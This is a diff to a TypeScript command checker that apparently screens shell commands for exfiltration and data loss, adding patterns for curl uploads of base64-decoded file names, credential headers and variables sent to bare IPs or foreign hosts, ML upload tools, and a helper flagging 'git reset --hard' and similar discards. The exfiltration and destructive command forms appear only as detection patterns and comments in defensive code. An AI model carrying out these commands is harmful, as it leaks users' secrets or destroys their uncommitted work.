@@ -3935,6 +4558,8 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
     // -T FILE, also inside a cluster of short options (curl -sT FILE).
     const uploadOpt = prev === '--upload-file' || prev === '--post-file' || prev === '--body-file' || (name === 'curl' && /^-[a-zA-Z]*T$/.test(prev)) || (/^(mutt|mail|mailx|neomutt|s-nail|swaks|sendemail)$/.test(name) && /^(-a|-A|--attach|--attach-type)$/.test(prev));
     const path = atFile ?? eq ?? (uploadOpt ? t : null);
+    // -F "f=@$(echo fi8uc3No… | base64 -d)": a file whose name is decoded only when it runs, hidden from review.
+    if (path && path.includes('$(…)') && w.subs.some((sub) => /\bbase64\s+(-[a-zA-Z]*[dD]|--decode)\b|\bxxd\s+-[a-z]*r|\bbase32\s+-d|\brev\b|\bopenssl\s+(enc\s+)?-?base64\s+-d/.test(sub))) return say('a file whose name is decoded only when it runs', 'as a file argument, hidden from review');
     const upload = (name === 'az' || name === 'gcloud') && /^(-f|--file|--source|--data)$/.test(prev);
     // scp HOST:SRC ./dst downloads: only a local source sent to a remote destination leaves.
     const ops = ['scp', 'rsync', 'sftp'].includes(name) ? args.filter((a, j) => !a.startsWith('-') && !noValue.has(args[j - 1] ?? '')) : [];
@@ -3949,7 +4574,7 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
       // scp -r ~ host:, rsync -a ~/ host: — the whole home directory, keys and all.
       if (!remote || !/^[\w.-]*@?[\w.-]+:/.test(c)) if (holdsSecrets(walk, tt.abs) && ['scp', 'sftp', 'rsync', 'rclone', 'aws', 'gsutil'].includes(name)) return say(`${tt.abs} (the keys in it)`, 'as a file argument');
     }
-    const authHeader0 = /^(authorization|proxy-authorization|x-api-key|api-key|private-token|x-auth-token|x-github-token|x-goog-api-key|anthropic-api-key|x-access-token)\s*:/i.test(t) || ['-u', '--user', '--oauth2-bearer', '--password', '--http-password'].includes(prev) || /^--(user|password|http-password)=/.test(t);
+    const authHeader0 = /^(authorization|proxy-authorization|x-api-key|api-key|private-token|x-auth-token|x-vault-token|x-consul-token|x-nomad-token|x-github-token|x-goog-api-key|anthropic-api-key|x-access-token)\s*:/i.test(t) || ['-u', '--user', '--oauth2-bearer', '--password', '--http-password'].includes(prev) || /^--(user|password|http-password)=/.test(t);
     // A whole credentials file or key (~/.git-credentials, ~/.ssh/id_rsa) in a header is not a token meant for it,
     // nor a service's token (gh auth token) sent to another host.
     const host = /^[a-z]+:\/\/([^/:?#\s]+)/i.exec(args.find((a) => /^[a-z]+:\/\//i.test(a)) ?? '')?.[1] ?? null;
@@ -3963,8 +4588,10 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
         const found = subProducesSecret(walk, inv, sub, 1);
         if (found) return say(found, 'inside a command substitution');
       }
-      const v = varNames(t).find((n) => KNOWN_SECRET_VAR.test(n));
-      if (v) return say(`$${v}`, 'in its arguments, not as the credential header it is meant for');
+      // Any credential-named variable in a request to a bare IP address: no service of its own lives there.
+      // So is a service's key ($WANDB_API_KEY) in a request to a host not of that service.
+      const v = varNames(t).find((n) => KNOWN_SECRET_VAR.test(n) || (SECRET_VAR.test(n) && host !== null && /^\d{1,3}(\.\d{1,3}){3}$/.test(host) && !/^(127\.|10\.|192\.168\.)/.test(host)) || (host !== null && VAR_HOSTS.some(([re, hosts]) => re.test(n) && !hosts.test(host))));
+      if (v && !(host !== null && /^(localhost|127\.\d+\.\d+\.\d+|\[::1\])$/.test(host))) return say(`$${v}`, 'in its arguments, not as the credential header it is meant for');
     }
   }
 }
@@ -3978,6 +4605,7 @@ const VAR_HOSTS: [RegExp, RegExp][] = [
   [/^(HF_TOKEN|HUGGING_FACE_HUB_TOKEN)$/, /(^|\.)huggingface\.co$/],
   [/^SLACK_(BOT_)?TOKEN$/, /(^|\.)slack\.com$/],
   [/^(AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN)$/, /(^|\.)amazonaws\.com$/],
+  ...ML_VAR_HOSTS,
 ];
 
 /** Anonymous file drops, paste bins and request catchers: whatever reaches them is public. */
@@ -4006,7 +4634,7 @@ function uploads(argv: string[]): boolean {
   if (name === 'tailscale' && a1 === 'file') return true;
   if (name === 'mc' && /^(cp|mirror|put)$/.test(a1 ?? '')) return true;
   if ((name === 'kubectl' || name === 'oc' || name === 'docker' || name === 'podman') && argv.includes('cp') && argv.some((a) => /^[\w.-]+(\/[\w.-]+)?:/.test(a))) return true;
-  return name === 'git' && a1 === 'send-email';
+  return (name === 'git' && a1 === 'send-email') || mlUploads(argv);
 }
 
 /** A network destination among the words: a URL (not file://), user@host:path, an --url/--host/--server option. */
@@ -4097,6 +4725,15 @@ function checkOutputSubstitutions(walk: Walk, inv: Invocation): void {
 }
 
 /** Checks over the whole line: a secret file added to git and pushed. */
+/** git reset --hard, git checkout [--] ., git restore [--worktree] .: every uncommitted change to tracked files thrown away. */
+function discardsWorkTree(argv: string[]): boolean {
+  const sub = argv.find((a, k) => k > 0 && !a.startsWith('-') && !/^-[cC]$/.test(argv[k - 1] ?? ''));
+  const rest = argv.slice(argv.indexOf(sub ?? '') + 1);
+  if (sub === 'reset') return rest.includes('--hard');
+  if (sub === 'checkout' || sub === 'restore') return rest.includes('.') && !(sub === 'restore' && rest.includes('--staged') && !rest.some((a) => a === '--worktree' || a === '-W'));
+  return false;
+}
+
 function checkLine(walk: Walk): void {
   const gits = walk.out.filter((i) => i.argv[0] === 'git');
   const made = [...walk.secretFiles];
